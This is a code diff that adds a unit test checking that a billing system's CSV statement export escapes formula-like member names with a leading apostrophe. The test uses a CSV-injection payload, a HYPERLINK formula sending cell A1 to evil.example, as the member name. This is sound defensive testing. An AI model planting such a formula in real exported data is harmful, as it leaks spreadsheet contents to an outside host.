@@ -261,6 +261,23 @@ class MeteringTest(MeteringBase):
         st = json.loads(self.d.ctl("statement", "--period", period, "--format", "json")[1])
         self.assertEqual(st["totals"]["amount_cents"], 600)
 
+    def test_statement_csv_writes_formulas_as_text(self):
+        # A member who names themselves as a formula must not run it in the spreadsheet
+        # of whoever opens the statement (OWASP "CSV injection"): the cell starts with an
+        # apostrophe; the other cells are written as before.
+        name = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
+        self.d.ok({"cmd": "member.add", "name": name, "plan": "nomad"})
+        self.d.ok({"cmd": "card.add", "member": name, "uid": "04C0C0C0"})
+        self.tap("in", "04C0C0C0")
+        period = self.period()
+        for fmt, delimiter in (("csv", ","), ("csv-fr", ";")):
+            code, out, _ = self.d.ctl("statement", "--period", period, "--format", fmt)
+            self.assertEqual(code, 0)
+            self.assertIn("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1", out)
+            rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff")), delimiter=delimiter))
+            self.assertEqual([r["member"] for r in rows], ["'" + name])
+            self.assertEqual(rows[0]["amount"], "0.00" if fmt == "csv" else "0,00")  # plan day
+
     # -- ledger --
     def test_ledger_verify_names_an_altered_entry(self):
         for _ in range(3):
